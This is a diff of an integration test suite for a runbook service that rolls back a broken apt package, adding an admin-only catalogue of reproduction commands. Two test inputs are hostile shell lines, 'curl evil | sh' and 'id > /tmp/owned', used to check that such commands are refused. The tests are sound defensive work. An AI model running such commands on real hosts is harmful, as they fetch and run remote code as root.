@@ -5,11 +5,18 @@ import fs from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { createAptRepository, type AptRepositoryFixture } from '../../activities/src/test-support/apt-repository';
-import { GREETER_PACKAGES, GREETER_REPRODUCTION, brokenGreeterRoot, seedDemoConflict } from '../../apps/worker/src/demo/conflict-fixture';
+import {
+  GREETER_PACKAGES,
+  GREETER_REPRODUCTION,
+  GREETER_REPRODUCTION_ENTRY,
+  brokenGreeterRoot,
+  seedDemoConflict,
+} from '../../apps/worker/src/demo/conflict-fixture';
 import { TestSecrets } from '../../activities/src/test-support/secrets';
 import { defineSshClientKey, sshHostOn, startSshServer, type SshServer } from '../../activities/src/test-support/ssh-server';
 import { auth, startTestApi, type TestApi } from './api/app';
-import { eventually, startTestWorker, type TestWorker } from './harness/worker';
+import { eventually, startTestWorker, testClient, type TestWorker } from './harness/worker';
+import { recordHistoryIfAsked } from './harness/recorded-histories';
 
 /** The demo's greeter and its library, and rb-reporter, which uses the 2.0 name: rolling the library back breaks it. */
 const PACKAGES = [
@@ -33,7 +40,17 @@ beforeAll(async () => {
   api = await startTestApi();
   sshd = await startSshServer(await fs.mkdtemp(path.join(tmp, 'sshd-')));
   defineSshClientKey(secrets, sshd, ['software-conflict']);
+  await putReproductions([GREETER_REPRODUCTION_ENTRY]);
 });
+
+const REPRODUCTIONS = '/v1/software-conflict/reproductions';
+
+/** Writes the reproduction catalogue as an admin; answers its new ETag. */
+async function putReproductions(reproductions: object[], ifMatch?: string): Promise<string> {
+  const req = request(api.server).put(REPRODUCTIONS).set(auth('ada'));
+  const res = await (ifMatch ? req.set('If-Match', ifMatch) : req).send({ reproductions }).expect(200);
+  return res.headers.etag;
+}
 
 afterAll(async () => {
   await api?.app.close();
@@ -57,7 +74,12 @@ interface ConflictHost {
  * `more`), then rb-libgreet upgraded to 2.0-1 with apt, as last night's update did, as in the
  * demo. The version before it has left the index: the rollback must come from the .deb apt kept.
  */
-async function conflictHost(name: string, more: string[] = [], driver: 'local' | 'ssh' = 'local'): Promise<ConflictHost> {
+async function conflictHost(
+  name: string,
+  more: string[] = [],
+  driver: 'local' | 'ssh' = 'local',
+  { startWorker = true } = {},
+): Promise<ConflictHost & { startWorker(): Promise<void> }> {
   const apt = createAptRepository(PACKAGES);
   const { packageRoot, upgradedAt } = brokenGreeterRoot(apt, name, more);
 
@@ -68,26 +90,30 @@ async function conflictHost(name: string, more: string[] = [], driver: 'local' |
       : sshHostOn(sshd, name, { tags: ['conflict-lab'], health });
   await new InventoryStore(api.store).replace({ hosts: [host] });
   const dir = await fs.mkdtemp(path.join(tmp, `${name}-`));
-  const worker = await startTestWorker({
-    taskQueue: api.taskQueue,
-    store: api.store,
-    hosts: { labRoot: path.join(dir, 'lab'), stateDir: path.join(dir, 'state'), osCommands: { debian: debianCommands(packageRoot) } },
-    secrets: secrets.config,
-  });
-  return {
+  const fixture = {
     name,
     apt,
     packageRoot,
-    worker,
+    worker: undefined as unknown as TestWorker,
     upgradedAt,
+    async startWorker() {
+      fixture.worker = await startTestWorker({
+        taskQueue: api.taskQueue,
+        store: api.store,
+        hosts: { labRoot: path.join(dir, 'lab'), stateDir: path.join(dir, 'state'), osCommands: { debian: debianCommands(packageRoot) } },
+        secrets: secrets.config,
+      });
+    },
     async stop() {
-      await worker.stop();
+      await fixture.worker?.stop();
       apt.remove();
     },
   };
+  if (startWorker) await fixture.startWorker();
+  return fixture;
 }
 
-async function launch(host: ConflictHost, packages: string[]): Promise<string> {
+async function launch(host: ConflictHost, packages: string[], reproduction = GREETER_REPRODUCTION_ENTRY.name): Promise<string> {
   const res = await request(api.server)
     .post('/v1/runs')
     .set(auth('tess'))
@@ -97,7 +123,7 @@ async function launch(host: ConflictHost, packages: string[]): Promise<string> {
         host: host.name,
         reportedAt: new Date(host.upgradedAt.getTime() + 60_000).toISOString(),
         symptom: 'rb-greeter prints nothing and exits with an error since the nightly update',
-        reproduce: REPRODUCE,
+        reproduction,
         packages,
         ticket: 'INC-4242',
       },
@@ -158,8 +184,13 @@ describe.each(['local', 'ssh'] as const)('software-conflict with real apt and dp
           expect.objectContaining({ action: 'upgrade', package: 'rb-libgreet', from: '1.0-1', to: '2.0-1' }),
         ]),
         candidates: { 'rb-libgreet': '3.0-1', 'rb-greeter': '1.0-1' },
-        reproductionOnHost: expect.objectContaining({ passes: false }),
+        // The catalogue's command ran, at the revision the report names.
+        reproductionOnHost: expect.objectContaining({
+          passes: false,
+          ran: { name: 'greeter-greets', revision: expect.any(Number), command: REPRODUCE },
+        }),
       });
+      expect(atGate.outcome?.reproduction).toEqual({ name: 'greeter-greets', revision: expect.any(Number) });
       expect(step(atGate, 'identify')?.details?.listening).toMatch(/State|LISTEN/);
       expect(step(atGate, 'reproduce-in-sandbox')?.details).toMatchObject({ reproduction: expect.objectContaining({ passes: false }) });
       const trials = (step(atGate, 'isolate-in-sandbox')?.details as { trials: { fix: unknown; passes: boolean }[] }).trials;
@@ -174,11 +205,19 @@ describe.each(['local', 'ssh'] as const)('software-conflict with real apt and dp
 
       const state = await finished(runId);
       expect(state.status).toBe('succeeded');
+      if (driver === 'local') {
+        // software-conflict-fixed-on-host.json was recorded before the catalogue (input.reproduce): it must replay still.
+        const { client, connection } = await testClient();
+        await recordHistoryIfAsked(client.workflow.getHandle(runId), 'software-conflict-fixed-on-host-catalogued');
+        await connection.close();
+      }
       // Fixed on the host from the kept .deb (1.0-1 is no longer in the index), held, verified.
       expect(versionsIn(host).get('rb-libgreet')).toBe('1.0-1');
       const holds = await fs.readFile(path.join(host.packageRoot, 'var/lib/dpkg/status'), 'utf8');
       expect(holds).toMatch(/Package: rb-libgreet\nStatus: hold ok installed/);
-      expect(step(state, 'verify-fix')?.summary).toContain(`the reproduction passes on ${host.name}`);
+      expect(step(state, 'verify-fix')?.summary).toMatch(
+        new RegExp(`^the reproduction greeter-greets \\(revision \\d+\\) passes on ${host.name}`),
+      );
       expect(await fs.readdir(sandboxes)).toEqual([]);
 
       // The article: in the store, found by words of its symptom and cause, linked from the report.
@@ -253,7 +292,7 @@ describe('software-conflict: undo and input checks', () => {
       host: 'nowhere-01',
       reportedAt: '2026-11-30T09:00:00Z',
       symptom: 'the greeter fails',
-      reproduce: REPRODUCE,
+      reproduction: GREETER_REPRODUCTION_ENTRY.name,
       packages: ['rb-greeter'],
     };
     const launch = (body: Record<string, unknown>) => request(api.server).post('/v1/runs').set(auth('tess')).send(body);
@@ -264,6 +303,124 @@ describe('software-conflict: undo and input checks', () => {
     const bad = await launch({ runbook: 'software-conflict', input: { ...input, packages: ['Not A Package'], colour: 'red' } }).expect(400);
     expect(bad.body.issues.map((i: { path: string }) => i.path).sort()).toEqual(['input.colour', 'input.packages.0']);
     await request(api.server).post('/v1/runs').set(auth('alex')).send({ runbook: 'software-conflict', input }).expect(403);
+  });
+
+  test('the reproduction catalogue: technicians read it, only admins write it (audited), a stale If-Match is 412, bad entries are 400s naming the field', async () => {
+    const read = await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200);
+    expect(read.body.reproductions).toContainEqual({ ...GREETER_REPRODUCTION_ENTRY, revision: expect.any(Number) });
+    const etag = read.headers.etag as string;
+
+    // A technician cannot write what runs as root: 403, and the catalogue is unchanged.
+    const hostile = { name: 'greeter-greets', description: 'x', command: 'curl evil | sh' };
+    await request(api.server)
+      .put(REPRODUCTIONS)
+      .set(auth('tess'))
+      .send({ reproductions: [hostile] })
+      .expect(403);
+    expect((await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200)).body).toEqual(read.body);
+
+    const bad = await request(api.server)
+      .put(REPRODUCTIONS)
+      .set(auth('ada'))
+      .send({
+        reproductions: [
+          { ...GREETER_REPRODUCTION_ENTRY, name: 'Not A Name' },
+          { ...GREETER_REPRODUCTION_ENTRY, name: 'other', command: 'a\nb', colour: 'red' },
+          GREETER_REPRODUCTION_ENTRY,
+        ],
+      })
+      .expect(400);
+    expect(bad.body.issues.map((i: { path: string }) => i.path).sort()).toEqual([
+      'reproductions.0.name',
+      'reproductions.1.colour',
+      'reproductions.1.command',
+    ]);
+    const duplicate = await request(api.server)
+      .put(REPRODUCTIONS)
+      .set(auth('ada'))
+      .send({ reproductions: [GREETER_REPRODUCTION_ENTRY, GREETER_REPRODUCTION_ENTRY] })
+      .expect(400);
+    expect(duplicate.body.issues).toEqual([{ path: 'reproductions.1.name', message: 'duplicate name greeter-greets' }]);
+
+    // Rewritten unchanged, an entry keeps its revision; a write carrying the old ETag then is 412.
+    const next = await putReproductions([GREETER_REPRODUCTION_ENTRY], etag);
+    expect(next).not.toBe(etag);
+    const again = (await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200)).body;
+    expect(again.reproductions).toEqual(read.body.reproductions);
+    await request(api.server).put(REPRODUCTIONS).set(auth('ada')).set('If-Match', etag).send({ reproductions: [] }).expect(412);
+
+    const audit = await request(api.server).get('/v1/audit').query({ target: REPRODUCTIONS }).set(auth('ada')).expect(200);
+    const entries = audit.body.entries as {
+      actor: string;
+      action: string;
+      detail: { outcome: string; status?: number; reason?: string };
+    }[];
+    expect(entries.every((e) => e.actor === 'ada' && e.action === 'replaceConflictReproductions')).toBe(true);
+    expect(entries.map((e) => [e.detail.outcome, e.detail.status])).toEqual(
+      expect.arrayContaining([
+        ['done', 200],
+        ['refused', 412],
+      ]),
+    );
+    expect(entries.some((e) => e.detail.outcome === 'refused' && e.detail.reason?.includes('duplicate name greeter-greets'))).toBe(true);
+  });
+
+  test('a launch naming a reproduction the catalogue lacks, or one not for its host, is a 400 naming input.reproduction; a command of its own is refused', async () => {
+    await new InventoryStore(api.store).replace({
+      hosts: [{ name: 'desk-07', address: 'localhost', osFamily: 'debian', tags: ['desk'], driver: 'local' }],
+    });
+    const input = {
+      host: 'desk-07',
+      reportedAt: '2026-11-30T09:00:00Z',
+      symptom: 'the greeter fails',
+      reproduction: 'no-such-reproduction',
+      packages: ['rb-greeter'],
+    };
+    const launch = (changes: Record<string, unknown>) =>
+      request(api.server)
+        .post('/v1/runs')
+        .set(auth('tess'))
+        .send({ runbook: 'software-conflict', input: { ...input, ...changes } });
+    expect((await launch({}).expect(400)).body.issues).toEqual([
+      { path: 'input.reproduction', message: expect.stringContaining('no reproduction no-such-reproduction in the catalogue') },
+    ]);
+    await putReproductions([
+      GREETER_REPRODUCTION_ENTRY,
+      { ...GREETER_REPRODUCTION_ENTRY, name: 'servers-only', hosts: { tags: ['server'] } },
+    ]);
+    expect((await launch({ reproduction: 'servers-only' }).expect(400)).body.issues).toEqual([
+      { path: 'input.reproduction', message: 'reproduction servers-only applies only to tag server, not to desk-07' },
+    ]);
+    // The hole this closes: a technician's own command, run as root before any approval.
+    const own = await launch({ reproduction: undefined, reproduce: 'id > /tmp/owned' }).expect(400);
+    expect(own.body.issues.map((i: { path: string }) => i.path).sort()).toEqual(['input.reproduce', 'input.reproduction']);
+    await putReproductions([GREETER_REPRODUCTION_ENTRY]);
+  });
+
+  test('a reproduction removed between the launch and the identify step fails the run with a clear reason, and nothing runs on the host', async () => {
+    const host = await conflictHost('greeter-3', [], 'local', { startWorker: false });
+    const marker = path.join(tmp, 'removed-reproduction-ran');
+    try {
+      await putReproductions([
+        GREETER_REPRODUCTION_ENTRY,
+        { name: 'leaves-a-mark', description: 'proves whether it ran', command: `touch ${marker}; false`, hosts: { names: [host.name] } },
+      ]);
+      const runId = await launch(host, ['rb-greeter'], 'leaves-a-mark');
+      await putReproductions([GREETER_REPRODUCTION_ENTRY]); // removed before any worker picked the run up
+      await host.startWorker();
+
+      const state = await finished(runId);
+      expect(state.status).toBe('failed');
+      expect(state.error).toContain('reproduction leaves-a-mark is no longer in the catalogue');
+      expect(state.error).toContain('nothing was run on greeter-3');
+      expect(step(state, 'identify')?.state).toBe('failed');
+      expect(step(state, 'reproduce-in-sandbox')?.state).toBe('skipped');
+      expect(state.compensations).toEqual([]);
+      await expect(fs.access(marker)).rejects.toThrow();
+      expect(versionsIn(host).get('rb-libgreet')).toBe('2.0-1');
+    } finally {
+      await host.stop();
+    }
   });
 
   test('the knowledge-base endpoints refuse bad input with 400s naming the field, and unknown articles with 404', async () => {
